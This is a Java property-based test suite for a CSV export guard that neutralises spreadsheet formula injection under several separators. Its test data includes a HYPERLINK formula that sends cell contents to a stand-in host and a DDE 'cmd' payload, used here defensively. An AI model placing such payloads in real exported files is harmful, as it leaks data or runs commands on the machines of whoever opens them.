package id.tanggap.contracts.book;

import static org.assertj.core.api.Assertions.assertThat;

import id.tanggap.contracts.book.BookCsv.Separator;
import java.math.BigDecimal;
import java.time.LocalDateTime;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Example;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;

/** Whoever opens the file, with whatever separator, runs nothing that a stranger wrote. */
class BookCsvTest {
    private static final String ATTACK =
            "Lampu mati.\n=HYPERLINK(\"http://example.invalid/?x=\"&B1,\"rincian\")\n;=1+2;sisa";
    private static final List<Character> SEPARATORS = List.of(';', ',', '\t');

    @Example
    void guardsEachLineAndWhatStandsBehindASeparator() {
        assertThat(Guard.put(ATTACK))
                .isEqualTo("Lampu mati.\n'=HYPERLINK(\"http://example.invalid/?x=\"&B1,\"rincian\")\n;'=1+2;sisa");
    }

    @Property
    void guardsBehindWhateverIsPassedOver(
            @ForAll("signs") String sign, @ForAll("passedOver") String before, @ForAll("beginnings") String beginning) {
        var words = beginning + before + sign + "1+2";

        assertThat(Guard.put(words)).isEqualTo(beginning + before + "'" + sign + "1+2");
    }

    @Example
    void leavesOtherWordsAsTheyAre() {
        assertThat(Stream.of("", "'", "'kata'", "RT 03/RW 05", "a=b", "x - y", "surel@contoh.id", "\"kata\"", "1\n\n2"))
                .allSatisfy(words -> assertThat(Guard.put(words)).isEqualTo(words));
    }

    @Property(tries = 5_000)
    void takesAwayWhatItPut(@ForAll("words") String words) {
        assertThat(Guard.taken(Guard.put(words))).isEqualTo(words);
    }

    @Property(tries = 2_000)
    void isReadAsItWasWritten(@ForAll Separator separator, @ForAll("tables") List<List<String>> table) {
        var opened = OpenedCsv.rows(csv(separator, table), sign(separator));

        assertThat(opened.stream()
                        .map(row -> row.stream().map(Guard::taken).toList())
                        .toList())
                .isEqualTo(table);
    }

    @Property(tries = 5_000)
    void holdsNoFormulaWithWhateverSeparatorItIsOpened(
            @ForAll Separator separator, @ForAll("tables") List<List<String>> table) {
        var csv = csv(separator, table);

        assertThat(SEPARATORS).allSatisfy(other -> {
            assertThat(OpenedCsv.rows(csv, other).stream().flatMap(List::stream))
                    .noneMatch(BookCsvTest::isFormula);
            // Some programs know no quotes at all.
            assertThat(csv.split("[\\n\\r" + other + "]")).noneMatch(BookCsvTest::isFormula);
        });
    }

    @Example
    void writesNumbersAndTimesAsTheyAreReadWhereTheSeparatorIsUsed() {
        List<Object> values = List.of(7, 62.5, -1234567.8, LocalDateTime.of(2026, 10, 31, 23, 30), "");

        assertThat(new BookCsv(Separator.SEMICOLON).line(values))
                .isEqualTo("\"7\";\"62,5\";\"-1234567,8\";\"31/10/2026 23:30\";\"\"\r\n");
        assertThat(new BookCsv(Separator.COMMA).line(values))
                .isEqualTo("\"7\",\"62.5\",\"-1234567.8\",\"31/10/2026 23:30\",\"\"\r\n");
    }

    @Property
    void readsNumbersAsTheyWereWritten(@ForAll Separator separator, @ForAll double number) {
        var opened = OpenedCsv.rows(new BookCsv(separator).line(List.of(number)), sign(separator));

        assertThat(new BigDecimal(opened.getFirst().getFirst().replace(',', '.')).doubleValue())
                .isEqualTo(number);
    }

    @Provide
    Arbitrary<String> words() {
        var pieces = Arbitraries.of(
                "=",
                "+",
                "-",
                "@",
                "＝",
                "＋",
                "－",
                "＠",
                "'",
                "''",
                "\"",
                "\"\"",
                ";",
                ",",
                "\t",
                "|",
                "\n",
                "\r\n",
                "\r",
                "\n\n",
                " ",
                "\u00A0",
                "\u3000",
                "\u200B",
                "\uFEFF",
                "\u2028",
                "kata",
                "1+2",
                "HYPERLINK(\"x\")",
                "🚧",
                "👩‍🔧",
                "é",
                "Rp50.000,-",
                "cmd|'/C calc'!A0",
                "5");
        return Arbitraries.oneOf(
                pieces.list().ofMaxSize(12).map(parts -> String.join("", parts)),
                Arbitraries.strings().ofMaxLength(20));
    }

    @Provide
    Arbitrary<List<List<String>>> tables() {
        return words().list().ofSize(3).list().ofMinSize(1).ofMaxSize(4);
    }

    @Provide
    Arbitrary<String> signs() {
        return Arbitraries.of("=", "+", "-", "@", "＝", "＋", "－", "＠");
    }

    @Provide
    Arbitrary<String> passedOver() {
        return Arbitraries.of(" ", "\u00A0", "\u3000", "\u200B", "\u2060", "\uFEFF", "\u0001", "\"", "\"\"")
                .list()
                .ofMaxSize(4)
                .map(parts -> String.join("", parts));
    }

    @Provide
    Arbitrary<String> beginnings() {
        return Arbitraries.of("", "Lampu mati.\n", "Lampu mati.\r", "\r\n", "kata;", "kata,", "kata\t", "\n");
    }

    private static String csv(Separator separator, List<List<String>> table) {
        var csv = new BookCsv(separator);
        return table.stream().map(row -> csv.line(row)).collect(Collectors.joining());
    }

    private static char sign(Separator separator) {
        return SEPARATORS.get(Arrays.asList(Separator.values()).indexOf(separator));
    }

    /** Told by its own means: the first sign that is shown. */
    private static boolean isFormula(String cell) {
        return cell.codePoints()
                .filter(sign -> sign != '"' && !Character.isWhitespace(sign) && !Character.isSpaceChar(sign))
                .filter(sign -> Character.getType(sign) != Character.FORMAT && !Character.isISOControl(sign))
                .limit(1)
                .anyMatch(sign -> "=+-@＝＋－＠".indexOf(sign) >= 0);
    }
}
